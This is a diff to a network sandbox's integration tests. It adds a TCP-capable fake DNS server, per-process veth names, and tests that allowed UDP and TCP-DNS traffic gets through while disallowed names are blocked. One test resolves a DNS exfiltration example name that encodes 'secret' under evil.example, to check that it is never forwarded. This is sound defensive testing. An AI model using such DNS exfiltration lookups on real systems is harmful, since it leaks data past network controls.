@@ -47,24 +47,35 @@ def canary_tcp():
 def canary_udp():
     while True:
         m, a = udp6.recvfrom(2048); log("canary.log", "udp %s %r" % (a, m))
-# DNS: answers A for names under test.example with the netns server's address; logs every question.
+# DNS: answers A for names under test.example with the netns server's address; logs every question (UDP and TCP).
 dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 dns.bind(("127.0.0.1", 0))
 D = dns.getsockname()[1]
-def serve_dns():
-    while True:
-        q, a = dns.recvfrom(2048)
+dns_tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+dns_tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+dns_tcp.bind(("127.0.0.1", D)); dns_tcp.listen(16)
+def answer(q, how):
         i, labels = 12, []
         while q[i]:
             labels.append(q[i+1:i+1+q[i]].decode()); i += 1 + q[i]
         qtype = int.from_bytes(q[i+1:i+3], "big"); name = ".".join(labels).lower()
-        log("dns.log", "%s %d" % (name, qtype))
+        log("dns.log", "%s %d %s" % (name, qtype, how))
         hit = name.endswith("test.example") and qtype == 1
         r = q[:2] + b"\x81\x80" + q[4:6] + (b"\x00\x01" if hit else b"\x00\x00") + b"\x00\x00\x00\x00" + q[12:i+5]
         if hit:
             r += b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04" + bytes([198, 51, 100, 2])
-        dns.sendto(r, a)
-for f in (httpd.serve_forever, canary_tcp, canary_udp, serve_dns):
+        return r
+def serve_dns():
+    while True:
+        q, a = dns.recvfrom(2048)
+        dns.sendto(answer(q, "udp"), a)
+def serve_dns_tcp():
+    while True:
+        c, _ = dns_tcp.accept()
+        n = int.from_bytes(c.recv(2), "big"); q = b""
+        while len(q) < n: q += c.recv(n - len(q))
+        r = answer(q, "tcp"); c.sendall(len(r).to_bytes(2, "big") + r); c.close()
+for f in (httpd.serve_forever, canary_tcp, canary_udp, serve_dns, serve_dns_tcp):
     threading.Thread(target=f, daemon=True).start()
 print(A, B, D, flush=True)
 threading.Event().wait()
@@ -73,6 +84,7 @@ threading.Event().wait()
 /// The test's "internet host": a namespace with 198.51.100.2, reached over a veth pair from 198.51.100.1.
 struct NetNs {
     name: String,
+    host_if: String,
     server: Option<Child>,
 }
 
@@ -88,38 +100,30 @@ fn ip(args: &[&str]) -> bool {
 impl NetNs {
     fn new(www: &std::path::Path) -> Self {
         let name = format!("capv-net-{}", std::process::id());
-        let host_if = "capv-veth-h";
+        // Interface names: at most 15 bytes, unique per test process.
+        let host_if = format!("cvh{}", std::process::id());
+        let ns_if = format!("cvn{}", std::process::id());
         // Leftovers of a killed earlier run.
         ip(&["netns", "del", &name]);
-        ip(&["link", "del", host_if]);
+        ip(&["link", "del", &host_if]);
         let owned = name.clone();
         let n = owned.as_str();
-        let ns = NetNs { name, server: None };
+        let ns = NetNs {
+            name,
+            host_if: host_if.clone(),
+            server: None,
+        };
+        let (host_if, ns_if) = (host_if.as_str(), ns_if.as_str());
         for step in [
             vec!["netns", "add", n],
             vec![
-                "link",
-                "add",
-                host_if,
-                "type",
-                "veth",
-                "peer",
-                "name",
-                "capv-veth-n",
+                "link", "add", host_if, "type", "veth", "peer", "name", ns_if,
             ],
-            vec!["link", "set", "capv-veth-n", "netns", n],
+            vec!["link", "set", ns_if, "netns", n],
             vec!["addr", "add", "198.51.100.1/24", "dev", host_if],
             vec!["link", "set", host_if, "up"],
-            vec![
-                "-n",
-                n,
-                "addr",
-                "add",
-                "198.51.100.2/24",
-                "dev",
-                "capv-veth-n",
-            ],
-            vec!["-n", n, "link", "set", "capv-veth-n", "up"],
+            vec!["-n", n, "addr", "add", "198.51.100.2/24", "dev", ns_if],
+            vec!["-n", n, "link", "set", ns_if, "up"],
             vec!["-n", n, "link", "set", "lo", "up"],
         ] {
             assert!(ip(&step), "ip {step:?} failed");
@@ -159,7 +163,7 @@ impl Drop for NetNs {
         }
         // Deleting the namespace deletes its end of the veth pair, and with it the host's end.
         ip(&["netns", "del", &self.name]);
-        ip(&["link", "del", "capv-veth-h"]);
+        ip(&["link", "del", &self.host_if]);
     }
 }
 
@@ -414,6 +418,8 @@ fn dns_allowed_names_resolve_disallowed_never_forwarded() {
     let script = r#"
 import socket, urllib.request as u
 print(u.urlopen("http://svc.test.example/index.html", timeout=10).read().decode().strip())
+import subprocess
+print(subprocess.run(["curl", "-sS", "-m", "10", "http://api.test.example/index.html"], capture_output=True, text=True).stdout.strip())
 for name in ("exfil-c2VjcmV0.evil.example", "test.example", "other.example"):
     try:
         socket.getaddrinfo(name, 80); print(name, "RESOLVED")
@@ -430,9 +436,10 @@ print("by address:", s.connect_ex(("198.51.100.3", 80)))
         f.ws.path(),
     );
     assert_eq!(out.code, 0, "{out}");
-    assert!(
-        out.stdout.contains("hello from the test namespace"),
-        "{out}"
+    assert_eq!(
+        out.stdout.matches("hello from the test namespace").count(),
+        2,
+        "urllib and curl by name\n{out}"
     );
     for name in [
         "exfil-c2VjcmV0.evil.example",
@@ -447,7 +454,10 @@ print("by address:", s.connect_ex(("198.51.100.3", 80)))
     );
     // Judged from outside: the upstream saw the allowed name and none of the others.
     let dns = f.log("dns.log");
-    assert!(dns.contains("svc.test.example"), "{dns}");
+    assert!(
+        dns.contains("svc.test.example") && dns.contains("api.test.example"),
+        "{dns}"
+    );
     assert!(!dns.contains("evil") && !dns.contains("other"), "{dns}");
     assert!(!dns.lines().any(|l| l.starts_with("test.example")), "{dns}");
 }
@@ -498,7 +508,9 @@ fn audit_records_destination_and_summary_lists_it() {
     }
     assert!(
         text.lines().any(|l| l.contains("\"decision\":\"deny\"")
-            && l.contains("198.51.100.1")
+            && l.contains("\"addr\":\"198.51.100.1\"")
+            && l.contains(&format!("\"port\":{}", f.b))
+            && l.contains("\"errno\":\"ECONNREFUSED\"")
             && l.contains("no network rule allows it")),
         "{text}"
     );
@@ -667,4 +679,132 @@ print(oct(os.stat({name:?}).st_mode & 0o777))
         !std::path::Path::new(&name).exists(),
         "{name} appeared on the host"
     );
+}
+
+/// A DNS question for `name` (type A), as bytes of a C or Python literal would spell it.
+fn dns_query(name: &str, id: u16) -> Vec<u8> {
+    let mut q = id.to_be_bytes().to_vec();
+    q.extend_from_slice(&[1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
+    for l in name.split('.') {
+        q.push(u8::try_from(l.len()).expect("short label"));
+        q.extend_from_slice(l.as_bytes());
+    }
+    q.extend_from_slice(&[0, 0, 1, 0, 1]);
+    q
+}
+
+#[test]
+fn udp_sendto_sendmsg_sendmmsg_to_allowed_destination_get_answers() {
+    if !root_only() {
+        return;
+    }
+    let f = Fixture::new("net-udp");
+    // The test's DNS server on the host's loopback stands in for any UDP service: allowed as host.loopback:D/udp.
+    let pol = f.policy("sandbox", &[format!("udp://host.loopback:{}", f.d)]);
+    let hex = |b: &[u8]| b.iter().map(|x| format!("\\x{x:02x}")).collect::<String>();
+    let py = format!(
+        r#"
+import socket
+def ask(how, q):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
+    if how == "sendto": s.sendto(q, ("240.0.0.1", {d}))
+    else: s.sendmsg([q], [], 0, ("240.0.0.1", {d}))
+    r = s.recv(512); print(how, "answered", r[:2] == q[:2], len(r))
+ask("sendto", b"{q1}")
+ask("sendmsg", b"{q2}")
+"#,
+        d = f.d,
+        q1 = hex(&dns_query("viasendto.test.example", 0x1111)),
+        q2 = hex(&dns_query("viasendmsg.test.example", 0x2222)),
+    );
+    f.ws.write("udp.py", &py);
+    let c = format!(
+        r#"
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/time.h>
+#include <unistd.h>
+int main(void) {{
+    static const char q1[] = "{q1}", q2[] = "{q2}";
+    int s = socket(AF_INET, SOCK_DGRAM, 0);
+    struct timeval tv = {{5, 0}};
+    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
+    struct sockaddr_in to = {{ .sin_family = AF_INET, .sin_port = htons({d}) }};
+    inet_pton(AF_INET, "240.0.0.1", &to.sin_addr);
+    struct iovec iov[2] = {{ {{(void *)q1, sizeof q1 - 1}}, {{(void *)q2, sizeof q2 - 1}} }};
+    struct mmsghdr m[2];
+    memset(m, 0, sizeof m);
+    for (int i = 0; i < 2; i++) {{
+        m[i].msg_hdr.msg_name = &to; m[i].msg_hdr.msg_namelen = sizeof to;
+        m[i].msg_hdr.msg_iov = &iov[i]; m[i].msg_hdr.msg_iovlen = 1;
+    }}
+    int n = sendmmsg(s, m, 2, 0);
+    char buf[512];
+    int got = 0;
+    for (int i = 0; i < n; i++) if (recv(s, buf, sizeof buf, 0) > 0) got++;
+    printf("sendmmsg sent %d answered %d\n", n, got);
+    return 0;
+}}
+"#,
+        d = f.d,
+        q1 = hex(&dns_query("viasendmmsg1.test.example", 0x3333)),
+        q2 = hex(&dns_query("viasendmmsg2.test.example", 0x4444)),
+    );
+    let exe = common::compile_c(&f.ws, "mmsg", &c, &[]);
+    let out = run_sandboxed(
+        &["--policy", pol.to_str().expect("ascii")],
+        &[
+            "/bin/sh",
+            "-c",
+            &format!("/usr/bin/python3 udp.py && {}", exe.display()),
+        ],
+        f.ws.path(),
+    );
+    assert!(out.stdout.contains("sendto answered True"), "{out}");
+    assert!(out.stdout.contains("sendmsg answered True"), "{out}");
+    assert!(out.stdout.contains("sendmmsg sent 2 answered 2"), "{out}");
+    // Judged from outside: the server saw each question.
+    let dns = f.log("dns.log");
+    for n in ["viasendto", "viasendmsg.", "viasendmmsg1", "viasendmmsg2"] {
+        assert!(dns.contains(n), "{n} missing from {dns}");
+    }
+}
+
+#[test]
+fn dns_over_tcp_forwarded_for_allowed_names_only() {
+    if !root_only() {
+        return;
+    }
+    let f = Fixture::new("net-dnstcp");
+    let pol = f.policy("sandbox", &["*.test.example:80".into()]);
+    let hex = |b: &[u8]| b.iter().map(|x| format!("\\x{x:02x}")).collect::<String>();
+    let py = format!(
+        r#"
+import socket
+def ask(q):
+    s = socket.create_connection(("127.0.0.53", 53), timeout=5)
+    s.sendall(len(q).to_bytes(2, "big") + q)
+    n = int.from_bytes(s.recv(2), "big"); r = b""
+    while len(r) < n: r += s.recv(n - len(r))
+    return r
+r = ask(b"{ok}"); print("allowed rcode", r[3] & 15, "answers", int.from_bytes(r[6:8], "big"))
+r = ask(b"{no}"); print("denied rcode", r[3] & 15)
+"#,
+        ok = hex(&dns_query("overtcp.test.example", 0x5555)),
+        no = hex(&dns_query("overtcp.evil.example", 0x6666)),
+    );
+    f.ws.write("tcpdns.py", &py);
+    let out = run_sandboxed(
+        &["--policy", pol.to_str().expect("ascii")],
+        &["/usr/bin/python3", "tcpdns.py"],
+        f.ws.path(),
+    );
+    assert!(out.stdout.contains("allowed rcode 0 answers 1"), "{out}");
+    assert!(out.stdout.contains("denied rcode 3"), "{out}");
+    let dns = f.log("dns.log");
+    assert!(dns.contains("overtcp.test.example 1 tcp"), "{dns}");
+    assert!(!dns.contains("evil"), "{dns}");
 }
